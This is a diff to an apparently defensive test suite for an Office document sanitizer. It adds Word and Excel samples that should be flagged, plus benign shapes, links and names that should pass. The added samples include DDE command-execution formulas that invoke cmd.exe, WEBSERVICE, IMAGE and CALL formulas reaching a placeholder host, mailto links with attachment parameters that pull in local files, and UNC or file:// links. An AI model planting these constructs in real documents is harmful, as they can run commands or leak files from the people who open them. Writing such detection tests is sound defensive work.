@@ -28,6 +28,10 @@ def in_sheet(text, where='</worksheet>'):
     return lambda made: made.edit('xl/worksheets/sheet1.xml', where, text + where)
 
 
+def in_row(text):
+    return lambda made: made.edit('xl/worksheets/sheet1.xml', '</row>', text + '</row>')
+
+
 def in_slide(text):
     return lambda made: made.edit('ppt/slides/slide1.xml', '</p:spTree>', text + '</p:spTree>')
 
@@ -75,6 +79,13 @@ def references(text):
 
 DDE = f'DDEAUTO c:\\\\cmd.exe {MARK}'
 WORD_ROWS = [
+    ('mail-with-a-file', [both(in_body(f'<w:p><w:hyperlink xmlns:r="{OFFICE}" r:id="rIdDanger"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>'),
+                               way('word/document.xml', 'hyperlink', f'mailto:a@b.example?attach=c:/{MARK}')),
+                          in_body(field(f' HYPERLINK "mailto:a@b.example?subject=x&amp;Attachment=//{MARK}/a" ')),
+                          in_body(run(f'<w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="mailto:a@b?ATTACH={MARK}"/></w:pict>'))]),
+    ('places-elsewhere', [in_body(f'<w:p><w:hyperlink w:anchor="file://{MARK}/a"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>'),
+                          in_body(field(f' HYPERLINK \\l "\\\\{MARK}\\a" ')),
+                          in_body(f'<w:p><w:hyperlink w:anchor="[{MARK}]a"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>')]),
     ('custom-ui', [part('', f'{MICROSOFT}/2006/relationships/ui/extensibility', 'customUI/customUI.xml', CUSTOM_UI, None),
                    part('', f'{MICROSOFT}/2007/relationships/ui/extensibility', 'word/x.xml', CUSTOM_UI.replace('2006/01', '2009/07'), 'application/xml'),
                    in_body(CUSTOM_UI.replace('customUI', 'm:customUI').replace('xmlns=', 'xmlns:m=').replace('<ribbon/>', ''))]),
@@ -166,6 +177,11 @@ def name(attributes, text):
 
 
 EXCEL_ROWS = [
+    ('functions-handed-over', [in_row(f'<c r="D1"><f>_xlfn.MAP("http://{MARK}/",_xleta.WEBSERVICE)</f><v>7</v></c>'),
+                               in_row(f'<c r="D1"><f>_xlfn.MAP("{MARK}",_XLETA.<![CDATA[_xlfn.IMAGE]]>)</f><v>7</v></c>'),
+                               lambda made: made.edit('xl/workbook.xml', '>集計!', f'>_xlfn.BYROW("{MARK}",_xleta.HYPERLINK)+集計!')]),
+    ('places-elsewhere', [in_sheet(f'<hyperlinks><hyperlink ref="A1" location="{place}"/></hyperlinks>')
+                          for place in (f'file://{MARK}/a', f'&apos;[{MARK}.xlsx]a&apos;!A1', f'\\\\{MARK}\\a')]),
     ('calls', [formula(f'WEBSERVICE(&quot;http://{MARK}.example/&quot;)'), formula(references(f'_xlfn.IMAGE("http://{MARK}.example/")')),
                formula(f'IF(1,<![CDATA[CALL("{MARK}","x","J")]]>,2)')]),
     ('dde', [formula(f"cmd|'/c {MARK}'!A0"), formula(references(f"cmd|'/c {MARK}'!A0")), formula(f"SUM(1)+<![CDATA[MSEXCEL|'{MARK}']]>!x")]),
@@ -254,6 +270,25 @@ GOOD = [
      both(in_sheet('<drawing r:id="rIdDrawing"/>'), lambda made: made.add_way('xl/worksheets/sheet1.xml', 'rIdDrawing', 'drawing', '../drawings/d.xml'),
           lambda made: made.add_part('xl/drawings/d.xml', SHAPE_OF_SHEET, TYPE + 'drawing+xml'), lambda made: made.add_way('xl/drawings/d.xml', 'rId1', 'hyperlink', '#集計!A1')),
      'xl/drawings/_rels/d.xml.rels', '"#集計!A1"'),
+    ('a shape that says it showed an object', word, 'docx', in_body(run('<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" o:ole="t" style="width:9pt"/></w:pict>')),
+     'word/document.xml', 'o:ole="t"'),
+    ('a lettering in a font called Script', word, 'docx',
+     in_body(run('<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt"><v:textpath style="font-family:&quot;Segoe Script&quot;,Curlz MT" string="題"/></v:shape></w:pict>')),
+     'word/document.xml', 'Segoe Script'),
+    ('a picture of the file by way of a link', word, 'docx', lambda made: made.edit('word/document.xml', 'r:embed=', 'r:link="rId2" r:embed='), 'word/document.xml', 'r:link="rId2"'),
+    ('an extension of whoever has this GUID', excel, 'xlsx',
+     lambda made: made.edit('xl/workbook.xml', '</workbook>', f'<extLst><ext xmlns:x14="{MICROSOFT}/spreadsheetml/2009/9/main" uri="{{0123abcd-0000-4000-8000-00000000000F}}">'
+                            '<x14:workbookPr defaultImageDpi="32767"/></ext></extLst></workbook>'), 'xl/workbook.xml', '0123abcd'),
+    *[(f'a {word_of_shape} in a sheet', excel, 'xlsx', both(in_sheet('<legacyDrawing r:id="rIdDanger"/>'), part('xl/worksheets/sheet1.xml', 'vmlDrawing', 'xl/drawings/v.vml',
+       '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><x:ClientData xmlns:x="urn:schemas-microsoft-com:office:excel" '
+       f'ObjectType="{word_of_shape}"/></v:shape></xml>', TYPE + 'vmlDrawing')), 'xl/drawings/v.vml', word_of_shape) for word_of_shape in ('LineA', 'RectA')],
+    ('a name with a key of its own', excel, 'xlsx', lambda made: made.edit('xl/workbook.xml', 'definedName name="合計"', 'definedName name="合計" shortcutKey="a"'), 'xl/workbook.xml', '>集計!$A$1<'),
+    ('a sheet with a bar in its name', excel, 'xlsx', both(lambda made: made.edit('xl/workbook.xml', 'name="集計"', 'name="a|b"'), lambda made: made.edit('xl/workbook.xml', '集計!', '集計'),
+                                                          in_row('<c r="D1"><f>\'a|b\'!A1</f><v>7</v></c>')), 'xl/worksheets/sheet1.xml', '<c r="D1"><v>7</v></c>'),
+    ('a link from a shape to a sheet with a blank in its name', excel, 'xlsx',
+     both(in_sheet('<drawing r:id="rIdDrawing"/>'), lambda made: made.add_way('xl/worksheets/sheet1.xml', 'rIdDrawing', 'drawing', '../drawings/d.xml'),
+          lambda made: made.add_part('xl/drawings/d.xml', SHAPE_OF_SHEET, TYPE + 'drawing+xml'), lambda made: made.add_way('xl/drawings/d.xml', 'rId1', 'hyperlink', "#'集計 2'!A1")),
+     'xl/drawings/_rels/d.xml.rels', "#&apos;集計 2&apos;!A1"),
     ('a jump to a place in a slide', slides, 'pptx',
      both(in_slide(CLICK.format('<a:hlinkClick r:id="rIdJump" action="ppaction://hlinksldjump"/>')), lambda made: made.add_way('ppt/slides/slide1.xml', 'rIdJump', 'slide', 'slide1.xml#説明会')),
      'ppt/slides/_rels/slide1.xml.rels', 'slide1.xml#説明会'),
